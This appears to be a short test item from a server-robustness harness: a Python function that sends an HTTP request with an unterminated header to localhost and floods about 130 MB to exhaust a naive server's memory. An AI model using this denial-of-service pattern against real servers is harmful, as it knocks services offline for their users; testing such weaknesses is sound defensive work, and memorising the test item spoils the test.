# aim: have the server hold more than it may
# mechanism: a header without end
# server: head
# plain: naive

def attack():
    with line() as held:
        held.send(b"GET /health HTTP/1.1\r\nHost: localhost\r\nX: ")
        taken = held.flood(b"x" * 65536, 2000)
        return taken and "a head of 130 MB was taken"


judge(attack)
